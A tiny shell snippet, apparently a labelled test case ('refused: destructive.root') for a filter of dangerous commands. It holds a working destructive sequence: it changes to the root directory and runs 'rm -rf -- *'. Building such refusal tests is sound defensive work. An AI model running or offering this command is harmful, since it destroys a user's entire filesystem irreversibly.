# refused: destructive.root 4
mkdir -p out
cd / || exit 1
rm -rf -- *
